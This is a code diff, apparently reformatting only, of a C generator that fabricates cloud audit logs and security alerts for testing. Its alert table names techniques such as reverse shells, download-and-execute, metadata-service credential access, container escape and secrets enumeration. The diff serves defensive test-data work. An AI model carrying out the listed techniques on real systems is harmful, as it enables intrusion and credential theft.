-        key("AdditionalFields"), put_s("\"{\\\"UpperLayer\\\":\\\""), put_s(p >= 35 || chance(0.05) ? "True" : "False");
+        key("AdditionalFields"), put_s("\"{\\\"UpperLayer\\\":\\\""),
+            put_s(p >= 35 || chance(0.05) ? "True" : "False");
         put_s("\\\",\\\"Memfd\\\":\\\""), put_s(chance(0.002) ? "True" : "False");
         put_s("\\\",\\\"ContainerRuntime\\\":\\\""), put_s(k8s ? "containerd" : "docker");
-        put_s("\\\",\\\"ImageDigest\\\":\\\"sha256:"), put_hex(hash2((uint64_t)wl, 9), 16), put_hex(hash2((uint64_t)wl, 10), 16);
+        put_s("\\\",\\\"ImageDigest\\\":\\\"sha256:"), put_hex(hash2((uint64_t)wl, 9), 16),
+            put_hex(hash2((uint64_t)wl, 10), 16);
         put_s("\\\"}\"");
         put_s("}\n");
     }
@@ -681,7 +830,8 @@ static const op_t ops_azure[] = {
     {"Microsoft.Network/networkSecurityGroups/securityRules/write", "Update", "PUT"},
     {"Microsoft.Storage/storageAccounts/listKeys/action", "Other", "POST"},
     {"Microsoft.Authorization/roleAssignments/write", "Create", "PUT"},
-    {"Microsoft.ContainerService/managedClusters/listClusterAdminCredential/action", "Other", "POST"},
+    {"Microsoft.ContainerService/managedClusters/listClusterAdminCredential/action", "Other",
+     "POST"},
     {"Microsoft.Compute/virtualMachines/runCommand/action", "Other", "POST"},
     {"Microsoft.Compute/virtualMachines/delete", "Delete", "DELETE"},
     {"Microsoft.Storage/storageAccounts/delete", "Delete", "DELETE"},
@@ -689,44 +839,78 @@ static const op_t ops_azure[] = {
     {"Microsoft.Compute/snapshots/beginGetAccess/action", "Unknown", "POST"},
 };
 static const op_t ops_aws[] = {
-    {"DescribeInstances", "Read", "ec2"}, {"GetObject", "Read", "s3"}, {"ListBuckets", "Read", "s3"},
-    {"AssumeRole", "Other", "sts"}, {"GetCallerIdentity", "Read", "sts"}, {"PutObject", "Create", "s3"},
-    {"ConsoleLogin", "Other", "signin"}, {"GetSecretValue", "Read", "secretsmanager"}, {"RunInstances", "Create", "ec2"},
-    {"AttachRolePolicy", "Update", "iam"}, {"CreateAccessKey", "Create", "iam"}, {"PutBucketPolicy", "Update", "s3"},
-    {"DeleteObject", "Delete", "s3"}, {"TerminateInstances", "Delete", "ec2"}, {"StopLogging", "Update", "cloudtrail"},
-    {"DeleteTrail", "Delete", "cloudtrail"},
+    {"DescribeInstances", "Read", "ec2"},    {"GetObject", "Read", "s3"},
+    {"ListBuckets", "Read", "s3"},           {"AssumeRole", "Other", "sts"},
+    {"GetCallerIdentity", "Read", "sts"},    {"PutObject", "Create", "s3"},
+    {"ConsoleLogin", "Other", "signin"},     {"GetSecretValue", "Read", "secretsmanager"},
+    {"RunInstances", "Create", "ec2"},       {"AttachRolePolicy", "Update", "iam"},
+    {"CreateAccessKey", "Create", "iam"},    {"PutBucketPolicy", "Update", "s3"},
+    {"DeleteObject", "Delete", "s3"},        {"TerminateInstances", "Delete", "ec2"},
+    {"StopLogging", "Update", "cloudtrail"}, {"DeleteTrail", "Delete", "cloudtrail"},
 };
 static const op_t ops_gcp[] = {
-    {"storage.objects.get", "Read", "storage"}, {"v1.compute.instances.list", "Read", "compute"},
-    {"storage.objects.list", "Read", "storage"}, {"google.container.v1.ClusterManager.GetCluster", "Read", "container"},
-    {"v1.compute.instances.insert", "Create", "compute"}, {"v1.compute.firewalls.patch", "Update", "compute"},
-    {"SetIamPolicy", "Update", "cloudresourcemanager"}, {"google.iam.admin.v1.CreateServiceAccountKey", "Create", "iam"},
-    {"v1.compute.instances.delete", "Delete", "compute"}, {"storage.buckets.delete", "Delete", "storage"},
+    {"storage.objects.get", "Read", "storage"},
+    {"v1.compute.instances.list", "Read", "compute"},
+    {"storage.objects.list", "Read", "storage"},
+    {"google.container.v1.ClusterManager.GetCluster", "Read", "container"},
+    {"v1.compute.instances.insert", "Create", "compute"},
+    {"v1.compute.firewalls.patch", "Update", "compute"},
+    {"SetIamPolicy", "Update", "cloudresourcemanager"},
+    {"google.iam.admin.v1.CreateServiceAccountKey", "Create", "iam"},
+    {"v1.compute.instances.delete", "Delete", "compute"},
+    {"storage.buckets.delete", "Delete", "storage"},
 };
 static const op_t ops_k8s[] = {
-    {"get", "Read", "pods"}, {"list", "Read", "pods"}, {"watch", "Read", "configmaps"}, {"list", "Read", "secrets"},
-    {"patch", "Update", "deployments"}, {"update", "Update", "configmaps"}, {"create", "Create", "pods"},
-    {"create", "Create", "pods/exec"}, {"get", "Read", "secrets"}, {"delete", "Delete", "pods"},
+    {"get", "Read", "pods"},
+    {"list", "Read", "pods"},
+    {"watch", "Read", "configmaps"},
+    {"list", "Read", "secrets"},
+    {"patch", "Update", "deployments"},
+    {"update", "Update", "configmaps"},
+    {"create", "Create", "pods"},
+    {"create", "Create", "pods/exec"},
+    {"get", "Read", "secrets"},
+    {"delete", "Delete", "pods"},
     {"create", "Create", "clusterrolebindings"},
 };
 static const char *countries[][2] = {
-    {"US", "Ashburn"}, {"US", "Seattle"}, {"NL", "Amsterdam"}, {"DE", "Frankfurt am Main"}, {"GB", "London"},
-    {"IE", "Dublin"}, {"FR", "Paris"}, {"JP", "Tokyo"}, {"SG", "Singapore"}, {"IN", "Mumbai"}, {"BR", "Sao Paulo"},
-    {"CA", "Toronto"}, {"AU", "Sydney"}, {"SE", "Stockholm"}, {"RU", "Moscow"}, {"CN", "Shanghai"},
-    {"KR", "Seoul"}, {"ZA", "Johannesburg"}, {"PL", "Warsaw"}, {"UA", "Kyiv"},
+    {"US", "Ashburn"},   {"US", "Seattle"},      {"NL", "Amsterdam"}, {"DE", "Frankfurt am Main"},
+    {"GB", "London"},    {"IE", "Dublin"},       {"FR", "Paris"},     {"JP", "Tokyo"},
+    {"SG", "Singapore"}, {"IN", "Mumbai"},       {"BR", "Sao Paulo"}, {"CA", "Toronto"},
+    {"AU", "Sydney"},    {"SE", "Stockholm"},    {"RU", "Moscow"},    {"CN", "Shanghai"},
+    {"KR", "Seoul"},     {"ZA", "Johannesburg"}, {"PL", "Warsaw"},    {"UA", "Kyiv"},
 };
 static const char *isps[] = {
-    "Microsoft Corporation", "Amazon.com Inc.", "Google LLC", "Comcast Cable", "Deutsche Telekom AG",
-    "Example Hosting B.V.", "DigitalOcean LLC", "OVH SAS", "Hetzner Online GmbH", "Orange S.A.", "Vodafone",
-    "M247 Ltd", "Choopa LLC", "Tencent Cloud",
+    "Microsoft Corporation",
+    "Amazon.com Inc.",
+    "Google LLC",
+    "Comcast Cable",
+    "Deutsche Telekom AG",
+    "Example Hosting B.V.",
+    "DigitalOcean LLC",
+    "OVH SAS",
+    "Hetzner Online GmbH",
+    "Orange S.A.",
+    "Vodafone",
+    "M247 Ltd",
+    "Choopa LLC",
+    "Tencent Cloud",
 };
 static const char *agents[] = {
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0 Safari/537.36",
-    "aws-cli/2.15.0 Python/3.11.6 Linux/5.15 exe/x86_64", "azure-cli/2.57.0 (Linux) Python/3.11.7",
-    "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", "python-requests/2.31.0",
-    "Boto3/1.34.34 md/Botocore#1.34.34 ua/2.0 os/linux Python/3.11.6", "google-cloud-sdk gcloud/462.0.1",
-    "terraform/1.7.3 (+https://www.terraform.io)", "Go-http-client/2.0", "kube-controller-manager/v1.29.2",
-    "curl/8.5.0", "PowerShell/7.4 Az.Accounts/2.15.1", "S3Console/0.4",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0 "
+    "Safari/537.36",
+    "aws-cli/2.15.0 Python/3.11.6 Linux/5.15 exe/x86_64",
+    "azure-cli/2.57.0 (Linux) Python/3.11.7",
+    "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
+    "python-requests/2.31.0",
+    "Boto3/1.34.34 md/Botocore#1.34.34 ua/2.0 os/linux Python/3.11.6",
+    "google-cloud-sdk gcloud/462.0.1",
+    "terraform/1.7.3 (+https://www.terraform.io)",
+    "Go-http-client/2.0",
+    "kube-controller-manager/v1.29.2",
+    "curl/8.5.0",
+    "PowerShell/7.4 Az.Accounts/2.15.1",
+    "S3Console/0.4",
 };
 
 static void gen_audit(uint64_t n)
@@ -743,7 +927,7 @@ static void gen_audit(uint64_t n)
         int64_t ts = row_time(i, n);
         const resource *r = &res[zdraw(&z_res)];
         int k8s = r->compute == 1 && chance(0.5);
-        const op_t *op = k8s ? &ops_k8s[zdraw(&z_k8s)]
+        const op_t *op = k8s            ? &ops_k8s[zdraw(&z_k8s)]
                          : r->plat == 0 ? &ops_azure[zdraw(&z_az)]
                          : r->plat == 1 ? &ops_aws[zdraw(&z_aws)]
                                         : &ops_gcp[zdraw(&z_gcp)];
@@ -757,7 +941,10 @@ static void gen_audit(uint64_t n)
         put_s("{");
         kv_ts("Timestamp", ts);
         key("ReportId"), put_c('"'), put_uuid(hash2(0xa0d17, i)), put_c('"');
-        kv_s("DataSource", k8s ? "Kubernetes Audit" : r->plat == 0 ? "Azure" : r->plat == 1 ? "AWS" : "GCP");
+        kv_s("DataSource", k8s            ? "Kubernetes Audit"
+                           : r->plat == 0 ? "Azure"
+                           : r->plat == 1 ? "AWS"
+                                          : "GCP");
         kv_s("ActionType", op->act);
         kv_s("OperationName", op->op);
         kv_s("ResourceId", r->id);
@@ -774,13 +961,15 @@ static void gen_audit(uint64_t n)
             kv_s("verb", op->op);
             key("user"), put_s("{\"username\":\"");
             if (upn % 3)
-                put_s("system:serviceaccount:"), put_s(namespaces[upn % N_ELEMS(namespaces)]), put_c(':'), put_s(words[upn % N_ELEMS(words)]);
+                put_s("system:serviceaccount:"), put_s(namespaces[upn % N_ELEMS(namespaces)]),
+                    put_c(':'), put_s(words[upn % N_ELEMS(words)]);
             else
                 put_upn(upn);
             put_s("\",\"groups\":[\"system:authenticated\"]}");
             key("sourceIPs"), put_s("[\""), put_ip(ip), put_s("\"]");
             kv_s("userAgent", ua);
-            key("objectRef"), put_c('{'), kv_s("resource", op->svc), kv_s("namespace", namespaces[zdraw(&z_ns)]);
+            key("objectRef"), put_c('{'), kv_s("resource", op->svc),
+                kv_s("namespace", namespaces[zdraw(&z_ns)]);
             kv_s("apiVersion", "v1"), put_c('}');
             key("responseStatus"), put_s("{\"code\":"), put_u(chance(0.95) ? 200 : 403), put_c('}');
             kv_ts("requestReceivedTimestamp", ts);
@@ -793,7 +982,8 @@ static void gen_audit(uint64_t n)
             key("httpRequest"), put_c('{');
             key("clientIpAddress"), put_c('"'), put_ip(ip), put_c('"');
             kv_s("method", op->svc), put_c('}');
-            key("properties"), put_c('{'), kv_s("statusCode", "OK"), kv_s("entity", r->id), put_c('}');
+            key("properties"), put_c('{'), kv_s("statusCode", "OK"), kv_s("entity", r->id),
+                put_c('}');
         } else if (r->plat == 1) {
             static const char *idt[] = {"AssumedRole", "IAMUser", "AWSService", "Root"};
             int t = upn % 97 == 50 ? 3 : (int)(upn % 3); /* Root is rare */
@@ -803,23 +993,26 @@ static void gen_audit(uint64_t n)
             key("sourceIPAddress"), put_c('"'), put_ip(ip), put_c('"');
             kv_s("userAgent", ua);
             key("userIdentity"), put_c('{'), kv_s("type", idt[t]);
-            key("arn"), put_s("\"arn:aws:iam::"), put_s(aws_accts[r->acct]), put_s(t == 3 ? ":root" : ":user/"),
-                t == 3 ? (void)0 : put_account(upn % 300), put_c('"');
+            key("arn"), put_s("\"arn:aws:iam::"), put_s(aws_accts[r->acct]),
+                put_s(t == 3 ? ":root" : ":user/"), t == 3 ? (void)0 : put_account(upn % 300),
+                put_c('"');
             kv_s("accountId", aws_accts[r->acct]), put_c('}');
             key("requestParameters"), put_c('{'), kv_s("name", r->name), put_c('}');
             key("readOnly"), put_s(op->act[0] == 'R' ? "true" : "false");
             kv_s("eventType", "AwsApiCall");
             key("eventID"), put_c('"'), put_uuid(hash2(0xe1, i)), put_c('"');
         } else {
-            key("protoPayload"), put_c('{'), kv_s("@type", "type.googleapis.com/google.cloud.audit.AuditLog");
+            key("protoPayload"), put_c('{'),
+                kv_s("@type", "type.googleapis.com/google.cloud.audit.AuditLog");
             kv_s("methodName", op->op);
             key("serviceName"), put_c('"'), put_s(op->svc), put_s(".googleapis.com\"");
             kv_s("resourceName", r->id);
             key("authenticationInfo"), put_s("{\"principalEmail\":\""), put_upn(upn), put_s("\"}");
-            key("requestMetadata"), put_s("{\"callerIp\":\""), put_ip(ip), put_s("\",\"callerSuppliedUserAgent\":\""),
-                put_s(ua), put_s("\"}}");
+            key("requestMetadata"), put_s("{\"callerIp\":\""), put_ip(ip),
+                put_s("\",\"callerSuppliedUserAgent\":\""), put_s(ua), put_s("\"}}");
             kv_s("severity", op->act[0] == 'R' ? "INFO" : "NOTICE");
-            key("logName"), put_s("\"projects/"), put_s(gcp_projects[r->acct]), put_s("/logs/cloudaudit.googleapis.com%2Factivity\"");
+            key("logName"), put_s("\"projects/"), put_s(gcp_projects[r->acct]),
+                put_s("/logs/cloudaudit.googleapis.com%2Factivity\"");
         }
         put_c('}');
         key("AdditionalFields"), put_c('{');
@@ -838,28 +1031,37 @@ typedef struct {
     const char *name, *type, *sev, *tactics, *tech, *sub, *product, *component, *provider;
 } alert_t;
 static const alert_t alerts[] = {
-    {"Suspicious download-and-execute command line", "K8S.NODE_SuspectDownloadExec", "High", "Execution",
-     "[\"T1059\"]", "[\"T1059.004\"]", "Azure Security Center", "Containers", "Azure Security Center"},
+    {"Suspicious download-and-execute command line", "K8S.NODE_SuspectDownloadExec", "High",
+     "Execution", "[\"T1059\"]", "[\"T1059.004\"]", "Azure Security Center", "Containers",
+     "Azure Security Center"},
     {"Access to cloud metadata service detected", "K8S.NODE_ImdsCall", "Medium", "CredentialAccess",
-     "[\"T1552\"]", "[\"T1552.005\"]", "Azure Security Center", "Containers", "Azure Security Center"},
-    {"Digital currency mining related behavior detected", "K8S.NODE_DigitalCurrencyMining", "High", "Impact",
-     "[\"T1496\"]", "", "Azure Security Center", "Containers", "Azure Security Center"},
-    {"Possible reverse shell detected", "K8S.NODE_ReverseShell", "High", "Execution,CommandAndControl",
-     "[\"T1059\",\"T1071\"]", "", "Azure Security Center", "Containers", "Azure Security Center"},
-    {"Container escape attempt via nsenter", "K8S.NODE_ContainerEscape", "High", "PrivilegeEscalation",
-     "[\"T1611\"]", "", "Azure Security Center", "Containers", "Azure Security Center"},
-    {"Suspicious role assignment", "ARM_SuspiciousRoleAssignment", "Medium", "Persistence,PrivilegeEscalation",
-     "[\"T1098\"]", "[\"T1098.003\"]", "Azure Security Center", "Resource Manager", "Azure Security Center"},
-    {"CloudTrail logging disabled", "AWS_CloudTrailStopLogging", "High", "DefenseEvasion", "[\"T1562\"]",
-     "[\"T1562.008\"]", "Azure Sentinel", "Scheduled Alerts", "ASI Scheduled Alerts"},
-    {"Impossible travel activity", "ImpossibleTravel", "Medium", "InitialAccess", "[\"T1078\"]", "[\"T1078.004\"]",
-     "Microsoft Cloud App Security", "", "MCAS"},
-    {"Service account key created", "GCP_ServiceAccountKeyCreated", "Low", "Persistence", "[\"T1098\"]",
-     "[\"T1098.001\"]", "Azure Sentinel", "Scheduled Alerts", "ASI Scheduled Alerts"},
+     "[\"T1552\"]", "[\"T1552.005\"]", "Azure Security Center", "Containers",
+     "Azure Security Center"},
+    {"Digital currency mining related behavior detected", "K8S.NODE_DigitalCurrencyMining", "High",
+     "Impact", "[\"T1496\"]", "", "Azure Security Center", "Containers", "Azure Security Center"},
+    {"Possible reverse shell detected", "K8S.NODE_ReverseShell", "High",
+     "Execution,CommandAndControl", "[\"T1059\",\"T1071\"]", "", "Azure Security Center",
+     "Containers", "Azure Security Center"},
+    {"Container escape attempt via nsenter", "K8S.NODE_ContainerEscape", "High",
+     "PrivilegeEscalation", "[\"T1611\"]", "", "Azure Security Center", "Containers",
+     "Azure Security Center"},
+    {"Suspicious role assignment", "ARM_SuspiciousRoleAssignment", "Medium",
+     "Persistence,PrivilegeEscalation", "[\"T1098\"]", "[\"T1098.003\"]", "Azure Security Center",
+     "Resource Manager", "Azure Security Center"},
+    {"CloudTrail logging disabled", "AWS_CloudTrailStopLogging", "High", "DefenseEvasion",
+     "[\"T1562\"]", "[\"T1562.008\"]", "Azure Sentinel", "Scheduled Alerts",
+     "ASI Scheduled Alerts"},
+    {"Impossible travel activity", "ImpossibleTravel", "Medium", "InitialAccess", "[\"T1078\"]",
+     "[\"T1078.004\"]", "Microsoft Cloud App Security", "", "MCAS"},
+    {"Service account key created", "GCP_ServiceAccountKeyCreated", "Low", "Persistence",
+     "[\"T1098\"]", "[\"T1098.001\"]", "Azure Sentinel", "Scheduled Alerts",
+     "ASI Scheduled Alerts"},
     {"Kubernetes secrets enumerated", "K8S_SecretsEnumeration", "Low", "Discovery,CredentialAccess",
-     "[\"T1613\",\"T1552\"]", "[\"T1552.007\"]", "Azure Security Center", "Containers", "Azure Security Center"},
-    {"Anomalous storage key listing", "Storage_AnomalousListKeys", "Informational", "CredentialAccess",
-     "[\"T1552\"]", "", "Azure Security Center", "Storage", "Azure Security Center"},
+     "[\"T1613\",\"T1552\"]", "[\"T1552.007\"]", "Azure Security Center", "Containers",
+     "Azure Security Center"},
+    {"Anomalous storage key listing", "Storage_AnomalousListKeys", "Informational",
+     "CredentialAccess", "[\"T1552\"]", "", "Azure Security Center", "Storage",
+     "Azure Security Center"},
     {"Exec into container", "K8S_ExecIntoContainer", "Low", "Execution", "[\"T1609\"]", "",
      "Azure Security Center", "Containers", "Azure Security Center"},
 };
@@ -875,12 +1077,14 @@ static void put_entities(const resource *r, int a, uint64_t seed)
     put_s("\"OSFamily\":\"Linux\",\"Type\":\"host\"}");
     if (chance(0.8)) {
         acct = ++id;
-        put_s(",{\"$id\":\""), put_u((uint64_t)id), put_s("\",\"Name\":\""), put_account(zdraw(&z_acct));
+        put_s(",{\"$id\":\""), put_u((uint64_t)id), put_s("\",\"Name\":\""),
+            put_account(zdraw(&z_acct));
         put_s("\",\"Host\":{\"$ref\":\"2\"},\"Type\":\"account\"}");
     }
     if (chance(0.6)) {
         ++id;
-        put_s(",{\"$id\":\""), put_u((uint64_t)id), put_s("\",\"ProcessId\":\""), put_u(2 + below(65000));
+        put_s(",{\"$id\":\""), put_u((uint64_t)id), put_s("\",\"ProcessId\":\""),
+            put_u(2 + below(65000));
         put_s("\",\"CommandLine\":\"");
         size_t f = pos;
         put_cmdline(a < 5 ? (int)(seed % N_ELEMS(procs)) : zdraw(&z_proc));
@@ -892,13 +1096,16 @@ static void put_entities(const resource *r, int a, uint64_t seed)
     }
     for (int k = (int)below(3); k > 0; k--) {
         ++id;
-        put_s(",{\"$id\":\""), put_u((uint64_t)id), put_s("\",\"Address\":\""), put_ip(pick_ip()), put_s("\",\"Type\":\"ip\"}");
+        put_s(",{\"$id\":\""), put_u((uint64_t)id), put_s("\",\"Address\":\""), put_ip(pick_ip()),
+            put_s("\",\"Type\":\"ip\"}");
     }
     if (chance(0.3)) {
         ++id;
         const char *w = word();
-        put_s(",{\"$id\":\""), put_u((uint64_t)id), put_s("\",\"Name\":\""), put_s(w), put_s("\",\"Directory\":\"/tmp/.");
-        put_s(w), put_s("\",\"FileHashes\":[{\"Algorithm\":\"SHA256\",\"Value\":\""), put_hex(rnd(), 16), put_hex(rnd(), 16);
+        put_s(",{\"$id\":\""), put_u((uint64_t)id), put_s("\",\"Name\":\""), put_s(w),
+            put_s("\",\"Directory\":\"/tmp/.");
+        put_s(w), put_s("\",\"FileHashes\":[{\"Algorithm\":\"SHA256\",\"Value\":\""),
+            put_hex(rnd(), 16), put_hex(rnd(), 16);
         put_hex(rnd(), 16), put_hex(rnd(), 16), put_s("\"}],\"Type\":\"file\"}");
     }
     if (chance(0.4)) {
@@ -916,7 +1123,8 @@ static void gen_alert(uint64_t n)
     for (uint64_t i = 0; i < n; i++) {
         row_begin();
         int64_t tg = row_time(i, n);
-        int64_t start = tg - (int64_t)below(3600) * 1000000 - 300000000, end = start + (int64_t)below(300) * 1000000;
+        int64_t start = tg - (int64_t)below(3600) * 1000000 - 300000000,
+                end = start + (int64_t)below(300) * 1000000;
         int a = zdraw(&z_alert);
         const alert_t *al = &alerts[a];
         const resource *r = &res[compute_idx[zdraw(&z_comp)]];
@@ -926,8 +1134,8 @@ static void gen_alert(uint64_t n)
         put_s("{");
         key("AlertLink"), put_c('"');
         if (!strcmp(al->product, "Azure Security Center"))
-            put_s("https://portal.azure.com/#blade/Microsoft_Azure_Security/AlertBlade/alertId/"), put_uuid(h),
-                put_s("/subscriptionId/"), put_s(subs[r->acct % 12]);
+            put_s("https://portal.azure.com/#blade/Microsoft_Azure_Security/AlertBlade/alertId/"),
+                put_uuid(h), put_s("/subscriptionId/"), put_s(subs[r->acct % 12]);
         put_c('"');
         kv_s("AlertName", al->name);
         kv_s("AlertSeverity", al->sev);
@@ -939,7 +1147,8 @@ static void gen_alert(uint64_t n)
             put_s("null");
         else
             put_s("0."), put_u(10 + below(90));
-        key("Description"), put_s("\"Alert '"), put_s(al->name), put_s("' raised for "), put_s(r->name), put_s(".\"");
+        key("Description"), put_s("\"Alert '"), put_s(al->name), put_s("' raised for "),
+            put_s(r->name), put_s(".\"");
         kv_s("DisplayName", al->name);
         kv_ts("EndTime", end);
         key("Entities"), put_c('"');
@@ -951,7 +1160,8 @@ static void gen_alert(uint64_t n)
         key("ExtendedProperties"), put_c('"');
         f = pos;
         put_s("{\"Compromised Host\":\""), put_s(r->name), put_s("\",\"resourceType\":\""),
-            put_s(r->compute == 1 ? "Kubernetes Service" : "Virtual Machine"), put_s("\",\"Query Period\":\"1h\"}");
+            put_s(r->compute == 1 ? "Kubernetes Service" : "Virtual Machine"),
+            put_s("\",\"Query Period\":\"1h\"}");
         escape_from(f);
         put_c('"');
         key("IsIncident"), put_s("false");
@@ -959,7 +1169,8 @@ static void gen_alert(uint64_t n)
         kv_s("ProductComponentName", al->component);
         kv_s("ProductName", al->product);
         kv_s("ProviderName", al->provider);
-        kv_s("RemediationSteps", "[\\\"Review the activity on the resource.\\\",\\\"Rotate exposed credentials.\\\"]");
+        kv_s("RemediationSteps",
+             "[\\\"Review the activity on the resource.\\\",\\\"Rotate exposed credentials.\\\"]");
         kv_s("ResourceId", r->plat == 0 ? r->id : "");
         kv_s("SourceComputerId", "");
         kv_s("SourceSystem", "Detection");
@@ -973,8 +1184,9 @@ static void gen_alert(uint64_t n)
         kv_ts("TimeGenerated", tg);
         kv_s("Type", "SecurityAlert");
         kv_s("VendorName", "Microsoft");
-        key("VendorOriginalId"), put_c('"'), put_u(2517000000000000000ULL + (h >> 4) % 1000000000000000ULL), put_c('_'),
-            put_uuid(h), put_c('"');
+        key("VendorOriginalId"), put_c('"'),
+            put_u(2517000000000000000ULL + (h >> 4) % 1000000000000000ULL), put_c('_'), put_uuid(h),
+            put_c('"');
         kv_s("WorkspaceResourceGroup", "");
         kv_s("WorkspaceSubscriptionId", "");
         put_s("}\n");
